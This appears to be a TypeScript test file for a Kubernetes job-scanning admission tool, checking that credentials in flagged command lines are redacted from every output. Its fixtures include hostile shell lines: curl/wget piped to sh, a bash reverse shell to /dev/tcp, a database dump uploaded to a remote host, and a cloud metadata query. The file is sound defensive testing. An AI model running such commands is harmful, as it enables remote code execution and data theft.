/**
 * Secrets that workloads carry in the very fields the rules quote (command lines, env, URLs) must
 * never leave the engine. Each case below is one shape of secret, fed through every real output:
 * the findings (what `scan --format json` prints), admission warnings and the deny message, the
 * webhook's own reply and log (audit annotations included),
 * `jobguard scan --format text|json|sarif` and `jobguard audit --format json`, run in-process.
 * Every case checks on its own that a finding is still reported, that the secret-bearing text was
 * quoted (a redaction mark is present) and that no piece of the secret appears.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { denyMessage, warningsFor } from '../src/admission/messages.js';
import { main } from '../src/cli/index.js';
import { assess } from '../src/engine.js';
import { REDACTED, redact } from '../src/scoring/redact.js';
import { fakeIo } from './fixtures/scan/fake-io.js';
import type { ReviewReply } from './support/load.js';
import { engineFor, makeReview, testApp } from './support/review.js';

type Obj = Record<string, unknown>;

function job(name: string, container: Obj): Obj {
  return {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name, namespace: 'default' },
    spec: {
      template: {
        spec: { restartPolicy: 'Never', containers: [{ name: 'x', image: 'alpine:3.20', ...container }] },
      },
    },
  };
}

const sh = (script: string, env?: Obj[]): Obj => ({ command: ['sh', '-c', script], ...(env ? { env } : {}) });

const JWT =
  'eyJhbGciOiJSUzI1NiIsImtpZCI6InRlc3QifQ.eyJpc3MiOiJrdWJlcm5ldGVzL1pxOWp3dCJ9.U2lnbmF0dXJlT2ZUaGVUZXN0VG9rZW4tWnE5';
const PAYLOAD = Buffer.from('curl -s http://203.0.113.9/Zq9decodedStage2.sh | sh').toString('base64');

/** [case, the secret (every piece of 6+ characters must stay out), the container]. */
const CASES: [string, string, Obj][] = [
  ['curl -u user:password', 'Zq9curlPass', sh('curl -s -u admin:Zq9curlPass http://203.0.113.9/x.sh | sh')],
  ['token as a URL user', 'Zq9urlUserToken', sh('curl -s https://Zq9urlUserToken@203.0.113.9/x.sh | sh')],
  [
    'URL user:password',
    'Zq9urlPassword',
    sh('wget -qO- https://deploy:Zq9urlPassword@203.0.113.9/x.sh | sh'),
  ],
  [
    '$DB_PASSWORD expanded by the shell',
    'Zq9dbPassValue',
    sh('wget -qO- "http://203.0.113.9/x.sh?p=$DB_PASSWORD" | sh', [
      { name: 'DB_PASSWORD', value: 'Zq9dbPassValue' },
    ]),
  ],
  [
    '$(PW) expanded by the kubelet',
    'Zq9kubeletPw',
    sh('curl -s http://203.0.113.9/x.sh?k=$(PW) | sh', [{ name: 'PW', value: 'Zq9kubeletPw' }]),
  ],
  ['a decoded base64 payload', 'Zq9decodedStage2', sh(`echo ${PAYLOAD} | base64 -d | sh`)],
  [
    'AWS_SECRET_ACCESS_KEY=…',
    'Zq9awsSecretAccess/Key+value',
    sh('AWS_SECRET_ACCESS_KEY=Zq9awsSecretAccess/Key+value curl -s http://203.0.113.9/x.sh | sh'),
  ],
  [
    'DB_PASSWORD=…',
    'Zq9dbPasswordInline',
    sh('DB_PASSWORD=Zq9dbPasswordInline curl -s http://203.0.113.9/x.sh | sh'),
  ],
  [
    'GITHUB_TOKEN=…',
    'Zq9githubTokenInline',
    sh('GITHUB_TOKEN=Zq9githubTokenInline curl -s http://203.0.113.9/x.sh | sh'),
  ],
  [
    'X_API_TOKEN=… (leading _ in the name)',
    'Zq9xApiToken',
    sh('X_API_TOKEN=Zq9xApiToken curl -s http://203.0.113.9/x.sh | sh'),
  ],
  [
    'mysql -pX',
    'Zq9mysqlGlued',
    sh('mysql -uroot -pZq9mysqlGlued -h 203.0.113.9 db; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
  ],
  [
    '--password=X',
    'Zq9longFlagPw',
    sh(
      'mysqldump --password=Zq9longFlagPw -h db all | curl -s -T - http://203.0.113.9/up; curl http://203.0.113.9/x | sh',
    ),
  ],
  [
    'sshpass -p X',
    'Zq9sshpassPw',
    sh('sshpass -p Zq9sshpassPw scp root@203.0.113.9:/x /tmp/x; curl -s http://203.0.113.9/x | sh'),
  ],
  [
    'Slack xoxb- token',
    'xoxb-123456789012-Zq9slackBot',
    sh('curl -s -H "X-Slack: xoxb-123456789012-Zq9slackBot" http://203.0.113.9/x | sh'),
  ],
  [
    'Slack xoxp- token',
    'xoxp-123456789012-Zq9slackUser',
    sh('curl -s http://203.0.113.9/x?t=xoxp-123456789012-Zq9slackUser | sh'),
  ],
  [
    'AWS access key id',
    'AKIAZQ9EXAMPLEKEYID7',
    sh('curl -s http://203.0.113.9/x?id=AKIAZQ9EXAMPLEKEYID7 | sh'),
  ],
  [
    'GitHub ghp_ token',
    'ghp_Zq9aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1',
    sh('curl -s http://203.0.113.9/ghp_Zq9aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1 | sh'),
  ],
  [
    'GitHub github_pat_ token',
    'github_pat_11Zq9bbbbbbbbbbbbbbbbbbbbbbbbbbb',
    sh('curl -s http://203.0.113.9/github_pat_11Zq9bbbbbbbbbbbbbbbbbbbbbbbbbbb | sh'),
  ],
  ['JWT', JWT, sh(`curl -s http://203.0.113.9/x.sh/${JWT} | sh`)],
  [
    'Authorization: Bearer',
    'Zq9bearerOpaque123',
    sh('curl -s -H "Authorization: Bearer Zq9bearerOpaque123" http://169.254.169.254/latest/meta-data/ | sh'),
  ],
];

/** Cases whose secret is not in the command as written: the engine's per-workload hiding must act. */
const HIDDEN_BY_WORKLOAD = new Set([
  '$DB_PASSWORD expanded by the shell',
  '$(PW) expanded by the kubelet',
  'a decoded base64 payload',
]);

/**
 * Pieces that would betray the secret: the whole, and every 8-character window holding its unique
 * `Zq9` part (a quote cut short must not show a prefix either). Published prefixes alone (`xoxb-`,
 * `ghp_`, `AKIA`) are not the secret. The JWT has no `Zq9`; any 12 characters of it are a leak.
 */
function pieces(secret: string): string[] {
  const width = /zq9/i.test(secret) ? 8 : 12;
  const out = [secret];
  for (let k = 0; k + width <= secret.length; k++) {
    const piece = secret.slice(k, k + width);
    if (width === 12 || /zq9/i.test(piece)) out.push(piece);
  }
  return out;
}

/** The pieces of `secret` found in `text`. */
function leaks(text: string, secret: string): string[] {
  return pieces(secret).filter((piece) => text.includes(piece));
}

async function cli(argv: string[], stdin: string): Promise<{ code: number; out: string; err: string }> {
  const io = fakeIo({ cwd: process.cwd(), stdin });
  const code = await main(argv, io);
  return { code, out: io.out(), err: io.err() };
}

function auditEvent(object: Obj): Obj {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: '00000000-0000-0000-0000-000000000001',
    stage: 'ResponseComplete',
    verb: 'create',
    user: { username: 'alice@example.com' },
    sourceIPs: ['203.0.113.10'],
    objectRef: { resource: 'jobs', namespace: 'default', name: 'leak', apiGroup: 'batch', apiVersion: 'v1' },
    requestObject: object,
    requestReceivedTimestamp: '2025-03-01T10:00:00.000000Z',
    stageTimestamp: '2025-03-01T10:00:00.100000Z',
  };
}

describe.each(CASES)('secret shape: %s', (name, secret, container) => {
  const object = job('leak', container);

  it('the manifest carries the secret, and the redactor removes it from the command line', () => {
    const script = (container.command as string[])[2]!;
    const expanded = /\$\(?PW|\$DB_PASSWORD/.test(script);
    const plain = secret.includes('Zq9decoded') ? Buffer.from(PAYLOAD, 'base64').toString() : script;
    expect(JSON.stringify(object)).toContain(secret.includes('Zq9decoded') ? PAYLOAD : secret);
    if (!expanded) expect(plain).toContain(secret);
    // What the manifest-independent redactor sees when a rule quotes the text as written; an env
    // value expanded into the text carries no name beside it and is hidden per workload instead.
    if (!expanded && !secret.includes('Zq9decoded')) {
      expect(redact(plain)).toContain(REDACTED);
      expect(leaks(redact(plain), secret)).toEqual([]);
    }
  });

  it('findings, warnings and the deny message report it without the secret', () => {
    const engine = engineFor({
      profile: 'default',
      mode: 'enforce',
      thresholds: { annotate: 1, warn: 1, deny: 1 },
    });
    const assessment = assess(engine, structuredClone(object), { now: new Date('2026-11-27T12:00:00Z') });
    const findings = assessment!.score.findings.filter((f) => f.weight > 0);
    expect(findings.length).toBeGreaterThan(0);
    const target = { kind: 'Job', name: 'leak', object };
    const warnings = warningsFor({ ...assessment!.decision, action: 'warn' }, target);
    const deny = denyMessage(assessment!.decision, target);
    expect(warnings.length).toBeGreaterThan(0);
    expect(deny).toContain(findings[0]!.rule);
    const findingsJson = JSON.stringify(assessment!.score.findings);
    // Expanded and decoded values reach a quoted detail only through the engine: it must have hidden them.
    if (HIDDEN_BY_WORKLOAD.has(name)) expect(findingsJson).toContain(REDACTED);
    expect({
      findings: leaks(findingsJson, secret),
      warnings: leaks(warnings.join('\n'), secret),
      deny: leaks(deny, secret),
    }).toEqual({ findings: [], warnings: [], deny: [] });
  });

  it.each(['enforce', 'warn'] as const)(
    'the webhook in %s mode: no secret in its log, warnings, audit annotations or deny message',
    async (mode) => {
      const { app, lines } = testApp({
        profile: 'default',
        mode,
        thresholds: { annotate: 1, warn: 1, deny: 1 },
      });
      try {
        const res = await app.inject({
          method: 'POST',
          url: '/validate?timeout=10s',
          headers: { 'content-type': 'application/json' },
          payload: JSON.stringify(makeReview(structuredClone(object))),
        });
        expect(res.statusCode).toBe(200);
        const response = (JSON.parse(res.body) as ReviewReply).response!;
        expect(response.auditAnnotations?.rules).toBeTruthy();
        if (mode === 'enforce') expect(response.status?.message).toContain('denied');
        else expect(response.warnings?.length).toBeGreaterThan(0);
        expect({
          log: leaks(JSON.stringify(lines), secret),
          warnings: leaks(JSON.stringify(response.warnings ?? []), secret),
          annotations: leaks(JSON.stringify(response.auditAnnotations ?? {}), secret),
          denyMessage: leaks(response.status?.message ?? '', secret),
        }).toEqual({ log: [], warnings: [], annotations: [], denyMessage: [] });
      } finally {
        await app.close();
      }
    },
  );

  it.each(['text', 'json', 'sarif'])(
    'jobguard scan --format %s reports it without the secret',
    async (format) => {
      const argv = ['scan', '--format', format, '--stdin-filename', 'leak.yaml', '-'];
      const { code, out } = await cli(argv, JSON.stringify(object));
      expect(code).toBe(1);
      expect(out).toContain('Job');
      expect(leaks(out, secret)).toEqual([]);
    },
  );

  it('jobguard audit --format json reports it without the secret', async () => {
    const { code, out } = await cli(
      ['audit', '--format', 'json', '-'],
      `${JSON.stringify(auditEvent(object))}\n`,
    );
    expect(code).toBe(1);
    const json = JSON.parse(out) as { results: { findings: unknown[] }[] };
    expect(json.results[0]!.findings.length).toBeGreaterThan(0);
    expect(leaks(out, secret)).toEqual([]);
  });
});

/** Where a generated secret is put: each returns the container that carries `secret` there. */
const POSITIONS: ((secret: string, name: string) => Obj)[] = [
  (s) => sh(`curl -s -u admin:${s} http://203.0.113.9/x.sh | sh`),
  (s) => sh(`curl -s https://${s}@203.0.113.9/x.sh | sh`),
  (s) => sh(`wget -qO- http://deploy:${s}@203.0.113.9/x.sh | sh`),
  (s, n) => sh(`${n}=${s} curl -s http://203.0.113.9/x.sh | sh`),
  (s, n) => sh(`export ${n}=${s}; wget -qO- http://203.0.113.9/x.sh | sh`),
  (s, n) => sh(`wget -qO- "http://203.0.113.9/x.sh?v=$${n}" | sh`, [{ name: n, value: s }]),
  (s, n) => sh(`curl -s http://203.0.113.9/x.sh?v=$(${n}) | sh`, [{ name: n, value: s }]),
  (s) => sh(`mysql -uroot -p${s} db; curl -s http://203.0.113.9/x | sh`),
  (s) =>
    sh(`mysqldump --password=${s} db | curl -s -T - http://203.0.113.9/up; curl http://203.0.113.9/x | sh`),
  (s) => sh(`sshpass -p ${s} scp root@203.0.113.9:/x /tmp/x; curl -s http://203.0.113.9/x | sh`),
  (s) => sh(`curl -s -H "Authorization: Bearer ${s}" http://203.0.113.9/x | sh`),
  (s) => sh(`curl -s -H 'X-Api-Token: ${s}' http://203.0.113.9/x | sh`),
  (s) =>
    sh(`echo ${Buffer.from(`curl -s http://203.0.113.9/${s} | sh`).toString('base64')} | base64 -d | sh`),
];

describe('generated secrets in every position', () => {
  it('never reach findings, warnings or the deny message, and the job is still flagged', () => {
    const engine = engineFor({
      profile: 'default',
      mode: 'enforce',
      thresholds: { annotate: 1, warn: 1, deny: 1 },
    });
    const secretName = fc
      .tuple(
        fc.constantFrom('', 'X_', '_', 'AWS_', 'DB_', 'MY_APP_'),
        fc.constantFrom('PASSWORD', 'SECRET', 'TOKEN', 'API_KEY', 'ACCESS_KEY', 'PW', 'CREDENTIALS', 'AUTH'),
        fc.constantFrom('', '_VALUE', '_1', '_2'),
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(
        fc.stringMatching(/^[A-Za-z0-9]{6,24}$/).map((tail) => `Zq9${tail}`),
        secretName,
        fc.integer({ min: 0, max: POSITIONS.length - 1 }),
        (secret, name, at) => {
          const object = job('leak', POSITIONS[at]!(secret, name));
          const assessment = assess(engine, object, { now: new Date('2026-11-27T12:00:00Z') });
          const findings = assessment!.score.findings.filter((f) => f.weight > 0);
          expect(findings.length).toBeGreaterThan(0);
          const target = { kind: 'Job', name: 'leak', object };
          const out = [
            JSON.stringify(assessment!.score.findings),
            ...warningsFor({ ...assessment!.decision, action: 'warn' }, target),
            denyMessage(assessment!.decision, target),
          ].join('\n');
          expect(leaks(out, secret)).toEqual([]);
        },
      ),
      { numRuns: 400, seed: 20261203 },
    );
  });
});
